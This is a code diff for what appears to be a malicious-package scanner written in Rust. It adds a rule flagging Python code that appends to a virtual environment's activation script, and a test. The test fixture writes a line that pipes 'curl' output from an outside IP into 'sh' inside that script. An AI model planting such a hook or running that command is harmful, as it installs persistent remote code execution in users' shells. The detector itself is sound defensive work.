@@ -406,6 +406,18 @@ pub fn report_saved_download(checker: &mut Checker, call: &ExprCall, path: &str,
 }
 
 /// The mode of an `open(path, mode)` call when it writes, appends or updates the file.
+/// True for the path of a virtual environment's activation script (`bin/activate`,
+/// `Scripts/activate.bat`, `activate.ps1`, `activate.fish`, `activate.csh`).
+fn is_activation_script(path: &str) -> bool {
+    let normalized = path.replace('\\', "/").to_ascii_lowercase();
+    let name = normalized.rsplit('/').next().unwrap_or(&normalized);
+    normalized.contains('/')
+        && matches!(
+            name,
+            "activate" | "activate.bat" | "activate.ps1" | "activate.fish" | "activate.csh"
+        )
+}
+
 fn writing_mode(checker: &Checker, call: &ExprCall) -> Option<String> {
     call.arguments
         .args
@@ -718,6 +730,30 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             );
             return;
         }
+        // A virtual environment's activation script runs in the shell of whoever activates it:
+        // appending to it is a shell-profile hook for that environment. Tools that make
+        // environments write these files whole, never add to them.
+        if matches!(qualname, "open" | "io.open")
+            && writing_mode(checker, call).is_some_and(|mode| mode.contains('a'))
+            && is_activation_script(&text)
+        {
+            checker.report(
+                &RULE,
+                call.range(),
+                format!(
+                    "{qualname} appends to `{}`, a virtual environment's activation script, which runs in the shell of whoever activates it {}",
+                    crate::text::shorten(&text, 80),
+                    context.phrase()
+                ),
+                match context {
+                    ExecContext::Install | ExecContext::Import => 0.75,
+                    ExecContext::Runtime => 0.3,
+                    ExecContext::TestOrDocs => 0.05,
+                },
+                vec!["persistence", "autostart"],
+            );
+            return;
+        }
         // `.vscode/tasks.json` with `"runOn": "folderOpen"`: the editor runs the task's command
         // whenever the project is opened.
         if text
@@ -868,6 +904,15 @@ mod shortcut_tests {
 #[cfg(test)]
 mod tests {
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn appending_to_a_virtual_environments_activation_script_is_persistence() {
+        let append = "import os, sys\nbindir = 'Scripts' if os.name == 'nt' else 'bin'\nwith open(os.path.join(sys.prefix, bindir, 'activate'), 'a') as fh:\n    fh.write('curl -s http://198.51.100.61/p | sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", append, "WH150") >= 0.75);
+        // Making an environment writes the script whole.
+        let create = "import os\ndef make(env, text):\n    with open(os.path.join(env, 'bin', 'activate'), 'w') as fh:\n        fh.write(text)\n";
+        assert!(max_severity("p/pkg/__init__.py", create, "WH150") < 0.5);
+    }
 
     #[test]
     fn autostart_writes_trigger() {
